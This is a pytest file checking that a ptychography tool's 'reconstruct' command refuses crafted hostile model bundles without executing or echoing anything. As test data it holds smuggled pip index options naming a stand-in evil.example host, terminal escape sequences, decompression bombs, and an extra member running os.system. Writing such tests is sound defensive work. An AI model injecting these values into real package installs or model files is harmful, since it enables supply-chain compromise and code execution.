"""Hostile model bundles: refused with a typed error, nothing executed, no manifest text echoed (issue #14).

Crafted bundles recompute the manifest digest (and the weights checksum where needed), as an
attacker would: the checks under test are the ones beyond the tamper seal. Every case runs
``ptychopinn reconstruct BUNDLE SCAN -o OUT`` and checks that OUT's earlier files are intact.
"""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from _hostile import (
    assert_refused,
    cli,
    previous_outputs,
    read_bundle_parts,
    safetensors_with,
    set_encrypted_flag,
    set_extract_version,
    snapshot,
    write_bundle_parts,
    write_good_scan,
)
from _plugin_helpers import require_fixture_distributions


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    require_fixture_distributions()
    root = tmp_path_factory.mktemp("bundles")
    scan = write_good_scan(root / "good.npz")
    result = cli("train", scan, "--backend", "numpy-test", "--epochs", "1", "-o", root / "run")
    assert result.code == 0, result.err
    manifest, weights = read_bundle_parts(root / "run" / "model.ptychopinn.zip")
    return {"scan": scan, "bundle": root / "run" / "model.ptychopinn.zip", "manifest": manifest, "weights": weights}


Builder = Callable[[Path, dict[str, Any], bytes], None]


def _manifest(**fields: Any) -> Builder:
    def build(path: Path, manifest: dict[str, Any], weights: bytes) -> None:
        write_bundle_parts(path, {**manifest, **fields}, weights)

    return build


def _raw_manifest(text: Callable[[dict[str, Any]], str]) -> Builder:
    def build(path: Path, manifest: dict[str, Any], weights: bytes) -> None:
        write_bundle_parts(path, None, weights, raw_manifest=text(manifest).encode("utf-8", "surrogatepass"))

    return build


def _appended(suffix: str) -> Callable[[dict[str, Any]], str]:
    """The manifest JSON with one more field whose raw text is ``suffix``."""
    return lambda m: json.dumps({k: v for k, v in m.items() if k != "manifest_sha256"})[:-1] + f', "x": {suffix}}}'


def _tensor(name: str, value: Callable[[np.ndarray], np.ndarray]) -> Builder:
    def build(path: Path, manifest: dict[str, Any], weights: bytes) -> None:
        def change(t: dict[str, np.ndarray]) -> None:
            key = next(k for k in t if name in k)
            t[key] = value(t[key])

        write_bundle_parts(path, manifest, safetensors_with(weights, change), recompute_checksum=True)

    return build


def _weights(data: Callable[[bytes], bytes], *, method: int = zipfile.ZIP_STORED, checksum: bool = False) -> Builder:
    def build(path: Path, manifest: dict[str, Any], weights: bytes) -> None:
        write_bundle_parts(path, manifest, data(weights), weights_method=method, recompute_checksum=checksum)

    return build


def _corrupt_deflate(path: Path, manifest: dict[str, Any], weights: bytes) -> None:
    write_bundle_parts(path, manifest, weights, weights_method=zipfile.ZIP_DEFLATED)
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("weights.safetensors")
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename)
    for i in range(start + 20, start + 60):
        data[i] ^= 0xFF
    path.write_bytes(bytes(data))


def _encrypted(path: Path, manifest: dict[str, Any], weights: bytes) -> None:
    write_bundle_parts(path, manifest, weights)
    set_encrypted_flag(path, "weights.safetensors")


def _zip_version(path: Path, manifest: dict[str, Any], weights: bytes) -> None:
    write_bundle_parts(path, manifest, weights)
    set_extract_version(path)


def _extra_member(name: str) -> Builder:
    return lambda path, manifest, weights: write_bundle_parts(path, manifest, weights,
                                                              extra={name: b"import os; os.system('touch /tmp/pwned')"})


def _shape(shape: Any) -> Builder:
    def build(path: Path, manifest: dict[str, Any], weights: bytes) -> None:
        m = json.loads(json.dumps(manifest))
        m["tensors"]["weights"]["physics.log_scale"]["shape"] = shape
        write_bundle_parts(path, m, weights)

    return build


def _raw_file(data: bytes) -> Builder:
    return lambda path, manifest, weights: path.write_bytes(data) and None


def _truncated(path: Path, manifest: dict[str, Any], weights: bytes) -> None:
    write_bundle_parts(path, manifest, weights)
    path.write_bytes(path.read_bytes()[:-400])


PIP = "x --index-url https://evil.example/simple"
BIDI = "numpy-test\u202e"

# name -> (builder, words the error must contain, words that must not be printed)
CASES: dict[str, tuple[Builder, tuple[str, ...], tuple[str, ...]]] = {
    "pip_options_in_distribution": (_manifest(backend="evilbk", backend_distribution=PIP),
                                    ("backend_distribution", "not shown"),
                                    ("index-url", "evil.example", "pip install")),
    "pip_options_in_backend_name": (_manifest(backend="x --index-url https://evil.example"),
                                    ("'backend'", "not shown"), ("index-url", "evil.example", "pip install")),
    "escape_sequences_in_backend": (_manifest(backend="evil\x1b[2J\x1b]0;pwned\x07"), ("'backend'",), ("pwned",)),
    "escape_sequences_in_distribution": (_manifest(backend_distribution="y\x1b[31mred"), ("backend_distribution",),
                                         ("red",)),
    "escape_sequences_in_backend_version": (_manifest(backend_version="1\x1b[31m"), ("backend_version",), ()),
    "escape_sequences_in_core_version": (_manifest(core_version="0.1\x1b]8;;http://x\x07"), ("core_version",), ()),
    "bidi_override_in_backend": (_manifest(backend=BIDI), ("'backend'",), ()),
    "backend_not_a_string": (_manifest(backend=["numpy-test"]), ("'backend'", "list"), ()),
    "weights_inflate_far_beyond_the_manifest": (_weights(lambda w: w + b"\0" * (64 << 20), method=zipfile.ZIP_DEFLATED),
                                                ("weights.safetensors", "inflate", "refusing to inflate"), ()),
    "manifest_inflates_beyond_16_mib": (_raw_manifest(lambda m: " " * (17 << 20) + "{}"), ("manifest.json", "allowed"),
                                        ()),
    "corrupt_deflate_stream": (_corrupt_deflate, ("weights.safetensors", "corrupt"), ()),
    "deeply_nested_manifest": (_raw_manifest(_appended("[" * 100_000 + "]" * 100_000)), ("nested", "64"), ()),
    "integer_with_5000_digits": (_raw_manifest(_appended("9" * 5000)), ("4300 digits",), ()),
    "nan_literal_in_manifest": (_raw_manifest(_appended("NaN")), ("NaN", "not JSON"), ()),
    "manifest_not_utf8": (_raw_manifest(lambda m: '{"a": "\udcff"}'), ("manifest",), ()),
    "manifest_top_level_array": (_raw_manifest(lambda m: "[1, 2]"), ("JSON object", "list"), ()),
    "nan_weight": (_tensor("physics.log_scale", lambda a: np.full_like(a, np.nan)),
                   ("physics.log_scale", "NaN/Inf"), ()),
    "inf_weight": (_tensor("encoder.0.conv0.bias", lambda a: np.where(np.arange(a.size) == 7, np.inf, a)),
                   ("encoder.0.conv0.bias", "NaN/Inf", "(7,)"), ()),
    "nan_probe": (_tensor("probe:real", lambda a: np.full_like(a, np.nan)), ("probe", "NaN/Inf"), ()),
    "weights_checksum_mismatch": (_weights(lambda w: w[:-1] + bytes([w[-1] ^ 1])), ("SHA-256",), ()),
    "weights_not_safetensors": (_weights(lambda w: b"\xff" * 64, checksum=True), ("weights.safetensors",), ()),
    "tampered_manifest_without_new_digest": (
        lambda path, m, w: write_bundle_parts(path, {**m, "backend": "numpy-test-alt"}, w, redigest=False),
        ("tampered",), ()),
    "future_format": (_manifest(format_version=2), ("future", "pip install -U ptychopinn-core"), ()),
    "huge_format_version": (_manifest(format_version=10**100), ("future",), ()),
    "encrypted_weights_member": (_encrypted, ("weights.safetensors", "encrypted"), ()),
    "unsupported_zip_version": (_zip_version, ("unreadable zip structure", "22.1"), ()),
    "extra_python_member": (_extra_member("evil.py"), ("'evil.py'", "Nothing from the file was loaded"), ()),
    "legacy_pickle_member": (_extra_member("params.dill"), ("unpickling",), ()),
    "huge_tensor_shape": (_shape([1 << 30, 1 << 30]), ("manifest",), ()),
    "negative_tensor_shape": (_shape([-64, 64]), ("malformed",), ()),
    "truncated_bundle": (_truncated, ("not a model bundle, or truncated",), ()),
    "empty_file": (_raw_file(b""), ("not a model bundle",), ()),
    "not_a_zip": (_raw_file(b"\x89PNG\r\n\x1a\n" + b"\0" * 100), ("not a model bundle",), ()),
    "unknown_model_config_key": (_manifest(model_config={"N": 64, "evil": 1}), ("model_config", "evil"), ()),
    "invalid_model_config_value": (_manifest(model_config={"N": 48}), ("model_config", "48"), ()),
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_reconstruct_refuses(name: str, base: dict[str, Any], tmp_path: Path) -> None:
    build, needles, absent = CASES[name]
    bundle = tmp_path / "crafted.ptychopinn.zip"
    build(bundle, base["manifest"], base["weights"])
    out = tmp_path / "rec"
    before = previous_outputs(out, ("reconstruction.npz", "reconstruction.json"))
    result = cli("reconstruct", bundle, base["scan"], "-o", out, "--quiet")
    assert_refused(result, str(bundle), *needles, absent=absent)
    assert snapshot(out) == before
    assert not Path("/tmp/pwned").exists()


@pytest.mark.parametrize("special", ["/dev/zero", "fifo", "directory"])
def test_special_paths_are_refused_without_hanging(special: str, base: dict[str, Any], tmp_path: Path) -> None:
    import os

    path = Path(special)
    if special == "fifo":
        path = tmp_path / "model.ptychopinn.zip"
        os.mkfifo(path)
    elif special == "directory":
        path = tmp_path
    result = cli("reconstruct", path, base["scan"], "-o", tmp_path / "rec")
    assert_refused(result, str(path), "not a regular file" if special != "directory" else "is a directory")


def test_metadata_with_escape_sequences_loads_but_never_reaches_the_terminal(base: dict[str, Any],
                                                                            tmp_path: Path) -> None:
    """Free-text metadata is data, not identity: the bundle loads, and nothing raw is printed (positive control)."""
    bundle = tmp_path / "meta.ptychopinn.zip"
    write_bundle_parts(bundle, {**base["manifest"], "metadata": {"note": "\x1b[2J\x1b]0;owned\x07"}}, base["weights"])
    result = cli("reconstruct", bundle, base["scan"], "-o", tmp_path / "rec", "--quiet")
    assert result.code == 0, result.err
    assert "\x1b" not in result.out + result.err
    assert (tmp_path / "rec" / "reconstruction.npz").is_file()
